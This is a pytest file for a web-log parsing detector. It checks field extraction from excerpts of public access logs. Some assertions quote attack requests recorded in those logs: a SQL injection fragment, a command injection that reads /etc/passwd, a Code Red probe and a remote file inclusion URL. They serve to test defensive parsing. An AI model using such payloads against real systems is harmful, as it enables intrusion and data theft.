"""Field values read from excerpts of real public logs (tests/fixtures/realdata)."""

from __future__ import annotations

import math

import pandas as pd

from detector.io import read_logs
from detector.schema import UA_NOT_LOGGED

from ._helpers import CERTH_FORMAT, assert_schema, fixture


def _ts(text: str) -> pd.Timestamp:
    return pd.Timestamp(text, tz="UTC")


def test_elastic_apache_combined_fields():
    frame, report = read_logs(fixture("elastic_apache_combined.log"))
    assert report.formats == {str(fixture("elastic_apache_combined.log")): "combined"}
    assert len(frame) == 30 and report.lines_rejected == 0
    assert_schema(frame)
    first = frame.iloc[0]
    assert first.ts == _ts("2015-05-17 10:05:03")
    assert first.utc_offset_min == 0.0
    assert first.client_ip == "83.149.9.216"
    assert pd.isna(first.user)
    assert first.method == "GET"
    assert first.path == "/presentations/logstash-monitorama-2013/images/kibana-search.png"
    assert first.status == 200
    assert first.bytes == 203023
    assert first.referer == "http://semicomplete.com/presentations/logstash-monitorama-2013/"
    assert first.user_agent.startswith("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1)")
    assert pd.isna(first.app_session)
    assert math.isnan(first.duration_ms)
    assert list(frame.line_no) == list(range(1, 31))
    assert (frame.file_idx == 0).all()


def test_honeynet_malformed_requests_rejected_with_line_numbers():
    frame, report = read_logs(fixture("honeynet_chuvakin_2004_combined.log"))
    rejected = [(r.line_no, r.reason) for r in report.rejected_samples]
    assert rejected == [(n, "unparseable request line") for n in (16, 18, 19, 20, 21, 23, 25, 26, 28)]
    assert report.lines_read == 28 and report.lines_parsed == 19 and report.lines_rejected == 9
    assert report.rejected_by_format == {"combined": 9}
    assert sorted(frame.line_no) == [*range(1, 16), 17, 22, 24, 27]
    # the reasons never carry the log line
    assert all("68.49" not in r.reason for r in report.rejected_samples)


def test_honeynet_odd_but_real_requests_are_kept():
    frame, _ = read_logs(fixture("honeynet_chuvakin_2004_combined.log"))
    by_line = frame.set_index("line_no")
    # a target with spaces (SQL injection), kept whole
    assert by_line.loc[22, "path"].startswith("/site/' UNION ALL SELECT FileToClob(")
    assert by_line.loc[22, "path"].endswith("USER --/.html")
    assert by_line.loc[22, "method"] == "GET" and by_line.loc[22, "status"] == 404
    # a tab inside the target
    assert by_line.loc[17, "path"] == "/cgi-bin/handler/netsonar;cat\t/etc/passwd|?data=Download"
    # Code Red: "-" UA and referer
    assert by_line.loc[27, "path"].startswith("/default.ida?XXXX")
    assert by_line.loc[27, "user_agent"] == "" and pd.isna(by_line.loc[27, "referer"])
    # "-": a 408 time-out without a request is a record without method or path
    assert (by_line.loc[24, "method"], by_line.loc[24, "path"], by_line.loc[24, "status"]) == ("", "", 408)
    assert by_line.loc[24, "client_ip"] == "63.126.133.19" and by_line.loc[24, "bytes"] == 0
    # offsets: -0400 in 2004
    assert (frame.utc_offset_min == -240.0).all()
    assert by_line.loc[1, "ts"] == _ts("2004-04-21 14:56:07")


def test_ocatak_quote_wrapped_lines_and_admin_user():
    frame, report = read_logs(fixture("ocatak_w3af_quoted.log"))
    assert len(frame) == 18 and report.lines_rejected == 0
    assert_schema(frame)
    first = frame.iloc[0]
    assert first.client_ip == "192.168.4.163"
    assert first.user_agent == "w3af.org"  # no stray quote from the wrapping
    assert first.ts == _ts("2016-12-22 19:32:31") and first.utc_offset_min == 180.0
    assert list(frame.user[7:13]) == ["admin"] * 6
    assert frame.user[:7].isna().all() and frame.user[13:].isna().all()
    assert frame.iloc[7].referer == "http://192.168.4.161/"
    assert frame.iloc[15].client_ip == "192.168.1.20" and frame.iloc[15].path == "/DVWA/"


def test_netnea_extended_format_with_naive_timestamps():
    frame, report = read_logs(fixture("netnea_tutorial5_extended.log"))
    assert report.formats[str(fixture("netnea_tutorial5_extended.log"))] == "combined"
    assert len(frame) == 26 and report.lines_rejected == 0
    timeout = frame.iloc[25]  # "-" 408: no request, still a record
    assert (timeout.line_no, timeout.method, timeout.path, timeout.status) == (26, "", "", 408)
    assert timeout.client_ip == "92.83.110.130" and timeout.ts == _ts("2016-09-02 14:57:20.259825")
    first = frame.iloc[0]
    assert first.ts == _ts("2016-09-02 10:42:51.003372")
    assert math.isnan(first.utc_offset_min)
    assert first.client_ip == "75.249.65.145"
    assert pd.isna(first.user)  # the country code "US" is the ident field, not the user
    assert first.path == "/cms/tina-access-editor-for-download/"
    assert first.status == 200 and first.bytes == 7113
    assert first.user_agent == "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"


def test_netnea_with_its_own_logformat_gets_durations():
    # the "extended" LogFormat given in the tutorial's README
    log_format = ('%h %{GEOIP_COUNTRY_CODE}e %u [%{%Y-%m-%d %H:%M:%S}t.%{usec_frac}t] "%r" %>s %b '
                  '"%{Referer}i" "%{User-Agent}i" %v %A %p %R %{BALANCER_WORKER_ROUTE}e %X "%{cookie}n" '
                  '%{UNIQUE_ID}e %{SSL_PROTOCOL}x %{SSL_CIPHER}x %I %O %{ratio}n%% '
                  '%D %{ModSecTimeIn}e %{ApplicationTime}e %{ModSecTimeOut}e '
                  '%{ModSecAnomalyScoreIn}e %{ModSecAnomalyScoreOut}e')
    frame, report = read_logs(fixture("netnea_tutorial5_extended.log"), log_format=log_format)
    assert len(frame) == 26 and report.lines_rejected == 0
    assert frame.iloc[25].path == "" and abs(frame.iloc[25].duration_ms - 0.026) < 1e-12  # the 408 took 26 µs
    first = frame.iloc[0]
    assert first.ts == _ts("2016-09-02 10:42:51.003372")
    assert first.duration_ms == 88.871  # %D = 88871 microseconds
    assert first.bytes == 7113


def test_certh_logformat_with_session_cookie():
    frame, report = read_logs(fixture("certh_webbot_phase1.log"), log_format=CERTH_FORMAT)
    assert report.formats == {str(fixture("certh_webbot_phase1.log")): "logformat"}
    assert len(frame) == 22 and report.lines_rejected == 0
    assert_schema(frame)
    first, second = frame.iloc[0], frame.iloc[1]
    assert pd.isna(first.app_session)  # "-" before the UA
    assert second.app_session == "r0e98rtqr6192k5b8gl4ndlmha"
    assert second.referer == "https://160.40.52.164/"
    assert second.path == "/css/main.css" and second.status == 200 and second.bytes == 764
    assert second.user_agent.startswith("Mozilla/5.0 (X11; Linux x86_64)")
    assert second.client_ip == "" and pd.isna(second.user)
    assert second.ts == _ts("2019-10-28 09:40:31")
    dummy = frame.iloc[20]
    assert dummy.method == "OPTIONS" and dummy.path == "*"
    assert "internal dummy connection" in dummy.user_agent
    timeout = frame.iloc[21]  # "-" 408
    assert (timeout.method, timeout.path, timeout.status, timeout.client_ip) == ("", "", 408, "")
    assert pd.isna(timeout.app_session)


def test_certh_exact_field_layout_also_parses():
    # The files carry two fields before the timestamp, not three.
    exact = '%h %u %t "%r" %>s %b "%{Referer}i" %{PHPSESSID}C "%{User-Agent}i"'
    by_brief, _ = read_logs(fixture("certh_webbot_phase1.log"), log_format=CERTH_FORMAT)
    by_exact, _ = read_logs(fixture("certh_webbot_phase1.log"), log_format=exact)
    pd.testing.assert_frame_equal(by_brief, by_exact)


def test_certh_auto_detected_as_common_with_warning():
    frame, report = read_logs(fixture("certh_webbot_phase1.log"))
    assert report.formats[str(fixture("certh_webbot_phase1.log"))] == "common"
    assert any("LogFormat" in w for w in report.warnings)
    assert len(frame) == 22


def test_crowdsec_traefik_clf_extra_fields_ignored():
    frame, report = read_logs(fixture("crowdsec_traefik_clf.log"))
    assert report.formats[str(fixture("crowdsec_traefik_clf.log"))] == "combined"
    assert len(frame) == 7 and report.lines_skipped == 2  # two blank lines at the end
    assert list(frame.user_agent[:3]) == ["", "", "Nikto"]
    assert frame.iloc[1].path == "/upload.asp?test=toto&tata=test"
    # status "-" and bytes "-" become 0
    assert frame.iloc[4].status == 0 and frame.iloc[4].bytes == 0
    assert frame.iloc[5].path == "/birthday"  # "HTTP/2"


def test_crowdsec_common_log():
    frame, report = read_logs(fixture("crowdsec_apache_http_probing_common.log"))
    assert report.formats[str(fixture("crowdsec_apache_http_probing_common.log"))] == "common"
    assert len(frame) == 20 and report.warnings == []
    assert set(frame.status) == {404, 400}
    assert (frame.user_agent == UA_NOT_LOGGED).all() and frame.referer.isna().all()  # common has no such field
    assert frame.iloc[0].path == "/src/scripture.php?pageHeaderFile=http://cirt.net/rfiinc.txt??"


def test_fail2ban_comment_lines_rejected_with_their_numbers():
    frame, report = read_logs(fixture("fail2ban_apache_badbots.log"))
    assert report.formats[str(fixture("fail2ban_apache_badbots.log"))] == "combined"
    assert list(frame.line_no) == [2, 5, 8]
    assert list(frame.method) == ["POST", "GET", "HEAD"]
    assert (frame.utc_offset_min == 60.0).all()
    assert frame.iloc[0].ts == _ts("2007-03-05 13:39:21")
    rejected = [(r.line_no, r.reason) for r in report.rejected_samples]
    # four "# failJSON" comments, and the vhost_combined line (a host name before the client IP)
    assert rejected == [(n, "line does not match combined format") for n in (1, 4, 7, 10, 11)]
    assert report.lines_skipped == 3  # blank separator lines


def test_caddy_json_nested_keys_and_epoch_seconds():
    frame, report = read_logs(fixture("crowdsec_caddy.log"))
    assert report.formats[str(fixture("crowdsec_caddy.log"))] == "jsonl"
    # a reverse proxy's debug message is skipped (not a request, not broken), like the blank line
    assert len(frame) == 10 and report.lines_rejected == 0 and report.lines_skipped == 2
    assert_schema(frame)
    first = frame.iloc[0]
    assert abs((first.ts - _ts("2023-09-04 15:19:51.7564995")).total_seconds()) < 1e-5
    assert first.utc_offset_min == 0.0
    assert first.client_ip == "127.0.0.1"  # request.client_ip
    assert first.method == "GET" and first.path == "/"
    assert first.user_agent == "curl/7.74.0"  # request.headers.User-Agent is a list
    assert abs(first.duration_ms - 0.002701) < 1e-9  # "duration" is in seconds


def test_traefik_json_lines_with_a_plain_text_line():
    frame, report = read_logs(fixture("crowdsec_traefik_json.log"))
    assert report.formats[str(fixture("crowdsec_traefik_json.log"))] == "jsonl"
    assert len(frame) == 6
    assert [(r.line_no, r.reason) for r in report.rejected_samples] == [(6, "invalid JSON")]
    first = frame.iloc[0]
    assert first.client_ip == "172.17.0.1" and first.user_agent == "Nikto"
    assert first.path == "/594VAEoi.save" and first.status == 200 and first.bytes == 357
    assert abs(first.duration_ms - 0.357313) < 1e-9  # Duration is nanoseconds
    with_offset = frame.iloc[4]
    assert with_offset.ts == _ts("2026-01-14 09:45:33") and with_offset.utc_offset_min == 60.0
    assert frame.iloc[3].method == "POST" and frame.iloc[3].path == "/api/data"
